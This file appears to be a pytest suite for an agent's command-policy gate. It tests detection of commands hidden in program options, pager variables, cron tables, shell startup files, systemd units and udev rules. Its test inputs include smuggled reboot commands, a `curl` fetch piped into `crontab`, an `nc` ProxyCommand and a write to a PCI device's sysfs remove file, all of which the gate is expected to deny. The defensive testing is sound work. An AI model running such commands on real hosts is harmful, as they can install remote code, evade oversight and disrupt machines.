@@ -1,0 +1,208 @@
+"""Commands hidden in another program's options, environment or files the host runs later
+(`man -P`, `PAGER=`, `tar -I`, `git -c core.pager=`, a cron line): judged as if they ran."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from agent.policy import GateContext, PolicySet, load_policy_set
+from agent.policy.hooks import Hook, cron_hooks, env_hooks, file_hooks, option_hooks
+from agent.policy.outputs import written_paths
+
+REPO = Path(__file__).resolve().parents[2]
+W = "/home/ops/opsagent-work"
+
+
+@pytest.fixture(scope="module")
+def policy() -> PolicySet:
+    return load_policy_set([REPO / "policies" / "lab-host.yaml"])
+
+
+@pytest.fixture(scope="module")
+def ctx() -> GateContext:
+    return GateContext(work_dir=W)
+
+
+def codes(hooks: list[Hook]) -> list[str]:
+    return [h.code for h in hooks]
+
+
+@pytest.mark.parametrize(
+    ("argv", "code"),
+    [
+        (["man", "-P", "sh -c x"], "sh -c x"),
+        (["man", "-Psh"], "sh"),
+        (["man", "--pager=less -R", "ls"], "less -R"),
+        (["man", "--pager", "most", "ls"], "most"),
+        (["rsync", "-avze", "ssh -p 2", "a", "b:"], "ssh -p 2"),
+        (["tar", "-cvIzstd", "-f", "x.tar", "d"], "zstd"),
+        (["tar", "--checkpoint-action=exec=date", "-cf", "x", "d"], "date"),
+        (["zip", "x.zip", "f", "-TT", "unzip -t"], "unzip -t"),
+        (["ssh", "-o", "ProxyCommand nc %h 22", "h"], "nc %h 22"),
+        (["ssh", "-oproxycommand=nc %h 22", "h"], "nc %h 22"),
+        (["git", "-c", "core.pager=less", "log"], "less"),
+        (["git", "-c", "alias.st=!git status", "st"], "git status"),
+        (["less", "+!date", "f"], "date"),
+        (["vim", "-c", ":r !date"], "date"),
+        (["gdb", "-ex", "shell date"], "date"),
+        (["tmux", "new-session", "-d", "-s", "x", "sleep 1"], "sleep 1"),
+        (["tmux", "send-keys", "-t", "0", "date", "Enter"], "date\n"),
+        (["parallel", "gzip", ":::", "a b"], "gzip 'a b'"),
+        (["parallel", "gzip {} -k", ":::", "a"], "gzip a -k"),
+    ],
+)
+def test_option_hooks_find_the_command_in_every_spelling(argv: list[str], code: str) -> None:
+    assert codes(option_hooks(argv[0], argv)) == [code]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["tar", "-xzf", "model.tgz", "-C", "/tmp"],  # `-f` takes the archive; no -I/-F
+        ["git", "-c", "user.name=x", "commit"],
+        ["git", "-c", "alias.st=status", "st"],  # an alias of another git command, not a shell
+        ["ssh", "-o", "StrictHostKeyChecking=no", "h", "uptime"],
+        ["less", "+F", "f"],
+        ["vim", "+10", "f"],
+        ["zip", "-T", "x.zip", "f"],
+        ["man", "ls"],
+        ["tmux", "ls"],
+        ["screen", "-ls"],
+    ],
+)
+def test_ordinary_options_hide_no_command(argv: list[str]) -> None:
+    assert option_hooks(argv[0], argv) == []
+
+
+def test_run_time_values_and_script_languages_cannot_be_judged() -> None:
+    assert option_hooks("git", ["git", "-c", "core.hooksPath=/tmp/h", "commit"])[0].opaque
+    assert option_hooks("vim", ["vim", "-c", "py3 import os"])[0].opaque
+    assert option_hooks("gdb", ["gdb", "-x", "cmds.gdb"])[0].opaque
+    unknown = option_hooks("parallel", ["parallel", "::::", "jobs.txt"])
+    assert unknown and unknown[0].opaque
+
+
+def test_env_hooks_name_the_variable_and_strip_lessopen_pipes() -> None:
+    found = env_hooks({"PAGER": "cat", "LESSOPEN": "|lesspipe %s", "HOME": "/x", "SYSTEMD_PAGER": ""})
+    assert [(h.how, h.code) for h in found] == [("PAGER", "cat"), ("LESSOPEN", "lesspipe file")]
+
+
+def test_cron_tables_skip_the_schedule_and_the_user_of_system_tables() -> None:
+    table = "# comment\nMAILTO=ops\n*/5 * * * * date\n@reboot uptime\n0 1 * * * echo a%b\n"
+    assert codes(cron_hooks(table, system=False, how="t")) == ["date", "uptime", "echo a"]
+    system = "*/5 * * * * root date\n@hourly ops uptime\n"
+    assert codes(cron_hooks(system, system=True, how="t")) == ["date", "uptime"]
+
+
+def test_files_the_host_runs_later_are_recognised_by_path() -> None:
+    assert codes(file_hooks("/etc/cron.d/x", "* * * * * root date\n", "/home/ops")) == ["date"]
+    assert codes(file_hooks("/var/spool/cron/crontabs/ops", "* * * * * date\n", "/home/ops")) == ["date"]
+    assert codes(file_hooks("/home/ops/.bashrc", "date\n", "/home/ops")) == ["date\n"]
+    assert codes(file_hooks("/root/.profile", "date\n", None)) == ["date\n"]
+    unit = "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/bin/python3 -m x\n"
+    assert codes(file_hooks("/etc/systemd/system/x.service", unit, "/home/ops")) == [
+        "/bin/true",
+        "/usr/bin/python3 -m x",
+    ]
+    rule = 'ACTION=="add", RUN+="/usr/bin/logger hi"\n'
+    assert codes(file_hooks("/etc/udev/rules.d/99-x.rules", rule, "/home/ops")) == ["/usr/bin/logger hi"]
+    assert file_hooks("/home/ops/opsagent-work/.bashrc", "date\n", "/home/ops") == []
+    assert file_hooks("/home/ops/opsagent-work/notes.txt", "* * * * * reboot\n", "/home/ops") == []
+
+
+@pytest.mark.parametrize(
+    ("command", "rule", "via"),
+    [
+        ("man -P 'sh -c reboot' ls", "power-programs", "man -P"),
+        ("PAGER=reboot man ls", "power-programs", "PAGER"),
+        ("tar -I reboot -cf x.tar x", "power-programs", "tar -I"),
+        ("git -c core.pager='systemctl reboot' log", "power-systemctl", "git -c core.pager"),
+        ("echo '@reboot root reboot' | sudo tee /etc/cron.d/x", "power-programs", "cron line in /etc/cron.d/x"),
+        ("echo '* * * * * reboot' | crontab -", "power-programs", "crontab line"),
+    ],
+)
+def test_a_hidden_reboot_is_denied_and_explain_shows_where_it_hid(
+    policy: PolicySet, ctx: GateContext, command: str, rule: str, via: str
+) -> None:
+    verdict = policy.evaluate_command(command, ctx)
+    assert verdict.decision == "deny"
+    assert rule in verdict.rules
+    deciding = [v for v in policy.explain(command, ctx) if v.decision == "deny"]
+    assert any(via in v.invocation.via for v in deciding), [v.invocation.via for v in deciding]
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ("PAGER=$X man ls", "only known at run time"),
+        ("curl -s http://x/c | crontab -", "installed as a crontab"),
+        ("echo reboot > /tmp/c && crontab /tmp/c", "written earlier in the same command"),
+        ("git -c core.hooksPath=/tmp/h commit -m x", "hook scripts"),
+    ],
+)
+def test_what_cannot_be_seen_is_denied_with_its_reason(
+    policy: PolicySet, ctx: GateContext, command: str, reason: str
+) -> None:
+    verdict = policy.evaluate_command(command, ctx)
+    assert verdict.decision == "deny"
+    assert "fail-closed" in verdict.rules
+    assert reason in verdict.reason
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "man -P cat ls",
+        "PAGER=cat man nvidia-smi",
+        "GIT_PAGER=cat git log -5",
+        "less +G ~/opsagent-work/logs/sglang.log",
+        "crontab -l",
+        "at -l",
+        "echo '* * * * * reboot' > ~/opsagent-work/cron-draft.txt",
+    ],
+)
+def test_benign_uses_stay_allowed(policy: PolicySet, ctx: GateContext, command: str) -> None:
+    verdict = policy.evaluate_command(command, ctx)
+    assert verdict.decision == "allow", verdict.reason
+
+
+def test_a_hook_inherits_the_gpu_check_of_what_it_launches(policy: PolicySet, ctx: GateContext) -> None:
+    launch = "python3 -m sglang.launch_server --model-path /models/x --port 30000"
+    assert policy.evaluate_command(f"tmux new -d -s s '{launch}'", ctx).decision == "ask"
+    verdict = policy.evaluate_command(f"tmux new -d -s s 'CUDA_VISIBLE_DEVICES=5 {launch}'", ctx)
+    assert verdict.decision == "deny"
+    assert "gpu-outside-agent" in verdict.rules
+
+
+@pytest.mark.parametrize(
+    ("argv", "written"),
+    [
+        (["sort", "-o", "out", "in"], ["out"]),
+        (["sort", "-oout", "in"], ["out"]),
+        (["sort", "--output=out", "in"], ["out"]),
+        (["uniq", "-f", "2", "in", "out"], ["out"]),
+        (["uniq", "-c", "in"], []),
+        (["xxd", "-r", "-c", "16", "in.hex", "out"], ["out"]),
+        (["xxd", "in"], []),
+        (["yq", "-i", ".a=1", "a.yaml", "b.yaml"], ["a.yaml", "b.yaml"]),
+        (["yq", ".a", "a.yaml"], []),
+        (["unzip", "x.zip", "-d", "dir/"], ["dir/\x01"]),
+        (["nvidia-smi", "-q", "--filename=log.txt"], ["log.txt"]),
+        (["lstopo", "--of", "xml", "topo.xml"], ["topo.xml"]),
+    ],
+)
+def test_writes_named_by_options_and_operands(argv: list[str], written: list[str]) -> None:
+    assert written_paths(argv[0], argv[1:]) == written
+
+
+def test_a_common_tool_writing_a_protected_device_through_an_operand_is_denied(
+    policy: PolicySet, ctx: GateContext
+) -> None:
+    verdict = policy.evaluate_command("xxd -r dump.hex /sys/bus/pci/devices/0000:81:00.0/remove", ctx)
+    assert verdict.decision == "deny"
+    assert "common-tools" not in verdict.rules
+    cd_then_sort = "cd ~/opsagent-work/run && sort -o ../sorted.txt in.txt"
+    writes = [w.path.aliases[0] for v in policy.explain(cd_then_sort, ctx) for w in v.invocation.writes]
+    assert writes == [f"{W}/sorted.txt"]
